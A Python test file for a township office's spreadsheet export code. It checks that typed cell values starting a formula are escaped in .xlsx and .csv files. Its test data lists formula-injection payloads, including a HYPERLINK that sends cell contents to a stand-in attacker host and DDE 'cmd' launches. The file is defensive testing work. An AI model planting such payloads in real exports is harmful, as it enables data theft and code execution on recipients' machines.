"""Spreadsheet cells a person typed are never run as formulas, in .xlsx and .csv alike."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from township_office.exports import safe_cell, safe_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_escaped(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["张建军", "石桥村=东村", "", "13800138000", "a-b", " =1"])
def test_plain_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [12, -3, Decimal("-4.50"), 2.5, None, date(2026, 11, 26), True, "-12.5", "+7"])
def test_numbers_dates_and_empty_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_excel_keeps_the_text_and_has_no_formula():
    sheet = Workbook().active
    sheet.append(safe_row(["=1+1", "张建军", -3]))
    buffer = io.BytesIO()
    sheet.parent.save(buffer)
    cells = [c.value for c in load_workbook(io.BytesIO(buffer.getvalue())).active[1]]
    assert cells == ["'=1+1", "张建军", -3]
    assert all(getattr(c, "data_type", "s") != "f" for c in load_workbook(io.BytesIO(buffer.getvalue())).active[1])


def test_csv_row_is_escaped():
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(['=HYPERLINK("x")', "正常"]))
    assert out.getvalue().startswith('"\'=HYPERLINK(""x"")",正常')
